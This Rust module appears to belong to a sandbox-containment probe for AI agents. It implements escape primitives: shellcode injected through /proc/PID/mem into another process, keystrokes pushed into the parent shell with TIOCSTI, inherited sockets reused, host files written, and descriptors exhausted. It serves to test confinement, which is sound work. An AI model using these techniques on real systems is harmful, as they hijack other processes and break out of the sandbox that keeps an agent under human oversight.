//! Reaching outside the agent: taking over another process through
//! `/proc/PID/mem`, signalling it, connecting to its abstract Unix socket;
//! using a descriptor inherited from the launcher; writing the host's
//! files. Every action prints one JSON line like the rest of the probe.

use std::{io, time::Duration};

use serde_json::json;

fn fail(step: &str, e: &io::Error) -> String {
    json!({"ok": false, "step": step, "errno": e.raw_os_error().unwrap_or(-1), "error": e.to_string()})
        .to_string()
}

fn ok() -> String {
    json!({"ok": true}).to_string()
}

/// Run an action of this module (`None` for an unknown one).
pub fn run(action: &str, args: &[String]) -> Option<String> {
    Some(match action {
        "idle" => {
            // A victim: sleeps in short system calls so that code written
            // over its return address runs soon.
            let millis: u64 = args.first()?.parse().ok()?;
            let end = std::time::Instant::now() + Duration::from_millis(millis);
            while std::time::Instant::now() < end {
                std::thread::sleep(Duration::from_millis(50));
            }
            ok()
        }
        "procmem-exec" => procmem_exec(args.first()?.parse().ok()?, &args[1..])?,
        "kill" => {
            let pid: i32 = args.first()?.parse().ok()?;
            let sig: i32 = args.get(1)?.parse().ok()?;
            // SAFETY: plain system call.
            if unsafe { libc::kill(pid, sig) } != 0 {
                return Some(fail("kill", &io::Error::last_os_error()));
            }
            ok()
        }
        "abstract-connect" => {
            use std::os::linux::net::SocketAddrExt;
            let addr = std::os::unix::net::SocketAddr::from_abstract_name(args.first()?).ok()?;
            match std::os::unix::net::UnixStream::connect_addr(&addr) {
                Ok(_) => ok(),
                Err(e) => fail("connect", &e),
            }
        }
        "write-fd" => {
            let fd: i32 = args.first()?.parse().ok()?;
            let text = args.get(1)?;
            // SAFETY: writing a byte buffer to a descriptor number.
            let n = unsafe { libc::write(fd, text.as_ptr().cast(), text.len()) };
            if n < 0 {
                return Some(fail("write", &io::Error::last_os_error()));
            }
            ok()
        }
        "connect-fd" => {
            // Connect the inherited socket FD to ADDR (IPv4 `a.b.c.d:port`)
            // and write TEXT: a launcher's unconnected socket put to use.
            let fd: i32 = args.first()?.parse().ok()?;
            let addr: std::net::SocketAddrV4 = args.get(1)?.parse().ok()?;
            let text = args.get(2)?;
            // SAFETY: a zeroed sockaddr_in filled in; connect and write on a
            // descriptor number.
            let mut sin: libc::sockaddr_in = unsafe { std::mem::zeroed() };
            sin.sin_family = libc::AF_INET as libc::sa_family_t;
            sin.sin_port = addr.port().to_be();
            sin.sin_addr.s_addr = u32::from(*addr.ip()).to_be();
            let len = size_of::<libc::sockaddr_in>() as libc::socklen_t;
            if unsafe { libc::connect(fd, (&sin as *const libc::sockaddr_in).cast(), len) } != 0 {
                return Some(fail("connect", &io::Error::last_os_error()));
            }
            if unsafe { libc::write(fd, text.as_ptr().cast(), text.len()) } < 0 {
                return Some(fail("write", &io::Error::last_os_error()));
            }
            ok()
        }
        "write-fd-wait" => {
            // Write TEXT1 to FD, wait (up to 20 s) for FILE to exist, then
            // write TEXT2: a connection used before and after a revocation.
            let fd: i32 = args.first()?.parse().ok()?;
            let (first, file, second) = (args.get(1)?, args.get(2)?, args.get(3)?);
            // SAFETY: writing byte buffers to a descriptor number.
            if unsafe { libc::write(fd, first.as_ptr().cast(), first.len()) } < 0 {
                return Some(fail("write", &io::Error::last_os_error()));
            }
            let end = std::time::Instant::now() + Duration::from_secs(20);
            while !std::path::Path::new(file).exists() && std::time::Instant::now() < end {
                std::thread::sleep(Duration::from_millis(20));
            }
            if unsafe { libc::write(fd, second.as_ptr().cast(), second.len()) } < 0 {
                return Some(fail("write-after", &io::Error::last_os_error()));
            }
            ok()
        }
        "hold-sockets" => {
            // Open COUNT TCP sockets — or, given ADDR, UDP sockets connected
            // to it — (the descriptor limit raised to its ceiling), say so,
            // and keep them for MILLIS.
            let count: usize = args.first()?.parse().ok()?;
            let millis: u64 = args.get(1)?.parse().ok()?;
            let to: Option<std::net::SocketAddr> = match args.get(2) {
                Some(a) => Some(a.parse().ok()?),
                None => None,
            };
            raise_descriptor_limit();
            let mut held: Vec<Box<dyn std::any::Any>> = Vec::with_capacity(count);
            for _ in 0..count {
                let made: io::Result<Box<dyn std::any::Any>> = match to {
                    Some(to) => std::net::UdpSocket::bind("0.0.0.0:0")
                        .and_then(|s| s.connect(to).map(|()| s))
                        .map(|s| Box::new(s) as Box<dyn std::any::Any>),
                    None => socket2_tcp().map(|s| Box::new(s) as Box<dyn std::any::Any>),
                };
                match made {
                    Ok(s) => held.push(s),
                    Err(e) => return Some(fail("socket", &e)),
                }
            }
            use std::io::Write as _;
            let mut out = io::stdout();
            let _ = writeln!(out, "{}", json!({"ok": true, "held": held.len()}));
            let _ = out.flush();
            std::thread::sleep(Duration::from_millis(millis));
            ok()
        }
        "hold-api" => {
            // Open COUNT connections to the Unix socket SOCKET and keep
            // them idle; after a second, say how many the other side has
            // not closed, then hold the rest for MILLIS.
            let path = args.first()?;
            let count: usize = args.get(1)?.parse().ok()?;
            let millis: u64 = args.get(2)?.parse().ok()?;
            raise_descriptor_limit();
            let mut held = Vec::with_capacity(count);
            for _ in 0..count {
                match std::os::unix::net::UnixStream::connect(path) {
                    Ok(s) => held.push(s),
                    Err(e) => return Some(fail("connect", &e)),
                }
            }
            std::thread::sleep(Duration::from_secs(1));
            let open = held
                .iter()
                .filter(|s| {
                    use std::os::fd::AsRawFd as _;
                    let mut pfd = libc::pollfd {
                        fd: s.as_raw_fd(),
                        events: libc::POLLIN | libc::POLLRDHUP,
                        revents: 0,
                    };
                    // SAFETY: poll of one valid descriptor, no wait.
                    unsafe { libc::poll(&mut pfd, 1, 0) };
                    pfd.revents & (libc::POLLHUP | libc::POLLRDHUP) == 0
                })
                .count();
            use std::io::Write as _;
            let mut out = io::stdout();
            let _ = writeln!(
                out,
                "{}",
                json!({"ok": true, "connected": held.len(), "open": open})
            );
            let _ = out.flush();
            std::thread::sleep(Duration::from_millis(millis));
            ok()
        }
        "write-fd-hex" => {
            // A whole packet for a TUN descriptor, say.
            let fd: i32 = args.first()?.parse().ok()?;
            let hex = args.get(1)?;
            let bytes: Vec<u8> = (0..hex.len())
                .step_by(2)
                .map(|i| u8::from_str_radix(hex.get(i..i + 2)?, 16).ok())
                .collect::<Option<_>>()?;
            // SAFETY: writing a byte buffer to a descriptor number.
            let n = unsafe { libc::write(fd, bytes.as_ptr().cast(), bytes.len()) };
            if n < 0 {
                return Some(fail("write", &io::Error::last_os_error()));
            }
            ok()
        }
        "openat-write" => {
            // Write a file found from a directory descriptor.
            let dirfd: i32 = args.first()?.parse().ok()?;
            let path = std::ffi::CString::new(args.get(1)?.as_str()).ok()?;
            let text = args.get(2)?;
            // SAFETY: openat with a C string; write of a byte buffer.
            let fd = unsafe {
                libc::openat(
                    dirfd,
                    path.as_ptr(),
                    libc::O_WRONLY | libc::O_TRUNC | libc::O_CLOEXEC,
                )
            };
            if fd < 0 {
                return Some(fail("openat", &io::Error::last_os_error()));
            }
            let n = unsafe { libc::write(fd, text.as_ptr().cast(), text.len()) };
            let err = io::Error::last_os_error();
            unsafe { libc::close(fd) };
            if n < 0 {
                return Some(fail("write", &err));
            }
            ok()
        }
        "tiocsti" => {
            // Type TEXT into the controlling terminal (stdin), as if a
            // person had: the shell that started us reads it when we exit.
            for b in args.first()?.bytes() {
                // SAFETY: ioctl with a pointer to one byte.
                if unsafe { libc::ioctl(0, libc::TIOCSTI, &b as *const u8) } != 0 {
                    return Some(fail("tiocsti", &io::Error::last_os_error()));
                }
            }
            ok()
        }
        "shm-write" => {
            // Write TEXT into the SysV shared memory segment ID.
            let id: i32 = args.first()?.parse().ok()?;
            let text = args.get(1)?;
            // SAFETY: shmat of a segment id; a bounded copy into it.
            let at = unsafe { libc::shmat(id, std::ptr::null(), 0) };
            if at as isize == -1 {
                return Some(fail("shmat", &io::Error::last_os_error()));
            }
            unsafe {
                std::ptr::copy_nonoverlapping(text.as_ptr(), at.cast::<u8>(), text.len().min(64));
                libc::shmdt(at);
            }
            ok()
        }
        "write-file" => match std::fs::write(args.first()?, args.get(1)?) {
            Ok(()) => ok(),
            Err(e) => fail("write", &e),
        },
        "read-file" => match std::fs::read(args.first()?) {
            Ok(b) => json!({"ok": true, "len": b.len()}).to_string(),
            Err(e) => fail("read", &e),
        },
        "read-only" => {
            // Is each path on a read-only mount (as this process sees it)?
            let mut out = serde_json::Map::new();
            for p in args {
                let c = std::ffi::CString::new(p.as_str()).ok()?;
                // SAFETY: statvfs into a zeroed struct.
                let mut st: libc::statvfs = unsafe { std::mem::zeroed() };
                let ro = unsafe { libc::statvfs(c.as_ptr(), &mut st) } == 0
                    && st.f_flag & libc::ST_RDONLY != 0;
                out.insert(p.clone(), ro.into());
            }
            json!({"ok": true, "read_only": out}).to_string()
        }
        _ => return None,
    })
}

/// The red team's attack: find where `pid` is blocked in a system call,
/// write code there through `/proc/PID/mem` that execs `argv`, and let it
/// return into it. The victim then runs `argv` as itself.
#[cfg(target_arch = "x86_64")]
fn procmem_exec(pid: i32, argv: &[String]) -> Option<String> {
    let mut rip = None;
    for _ in 0..100 {
        let text = match std::fs::read_to_string(format!("/proc/{pid}/syscall")) {
            Ok(t) => t,
            Err(e) => return Some(fail("syscall", &e)),
        };
        let f: Vec<&str> = text.split_whitespace().collect();
        if !matches!(f.first(), Some(&"running") | Some(&"-1")) {
            rip = f
                .last()
                .and_then(|r| u64::from_str_radix(r.trim_start_matches("0x"), 16).ok());
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let base = rip?;
    // mov rdi, path; mov rsi, argv; xor edx, edx; mov eax, 59; syscall
    let code_len = 10 + 10 + 2 + 5 + 2;
    let mut strings = Vec::new();
    let mut offsets = Vec::new();
    for a in argv {
        offsets.push(code_len + strings.len());
        strings.extend_from_slice(a.as_bytes());
        strings.push(0);
    }
    let argv_at = (code_len + strings.len() + 7) & !7;
    let mut blob = Vec::new();
    blob.extend_from_slice(&[0x48, 0xbf]);
    blob.extend_from_slice(&(base + offsets[0] as u64).to_le_bytes());
    blob.extend_from_slice(&[0x48, 0xbe]);
    blob.extend_from_slice(&(base + argv_at as u64).to_le_bytes());
    blob.extend_from_slice(&[0x31, 0xd2, 0xb8, 59, 0, 0, 0, 0x0f, 0x05]);
    blob.extend_from_slice(&strings);
    blob.resize(argv_at, 0);
    for o in &offsets {
        blob.extend_from_slice(&(base + *o as u64).to_le_bytes());
    }
    blob.extend_from_slice(&0u64.to_le_bytes());
    use std::os::unix::fs::FileExt;
    let mem = match std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(format!("/proc/{pid}/mem"))
    {
        Ok(f) => f,
        Err(e) => return Some(fail("open-mem", &e)),
    };
    if let Err(e) = mem.write_all_at(&blob, base) {
        return Some(fail("write-mem", &e));
    }
    Some(json!({"ok": true, "wrote": blob.len(), "at": base}).to_string())
}

#[cfg(not(target_arch = "x86_64"))]
fn procmem_exec(_pid: i32, _argv: &[String]) -> Option<String> {
    Some(json!({"ok": false, "step": "arch", "errno": -1, "error": "x86-64 only"}).to_string())
}

/// The descriptor limit raised to its ceiling, as a program that opens
/// many would.
fn raise_descriptor_limit() {
    let mut lim = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit/setrlimit with a valid struct.
    unsafe {
        libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim);
        lim.rlim_cur = lim.rlim_max;
        libc::setrlimit(libc::RLIMIT_NOFILE, &lim);
    }
}

/// An unconnected TCP socket.
fn socket2_tcp() -> io::Result<std::os::fd::OwnedFd> {
    use std::os::fd::FromRawFd as _;
    // SAFETY: socket(2); the descriptor is owned from here on.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    Ok(unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) })
}
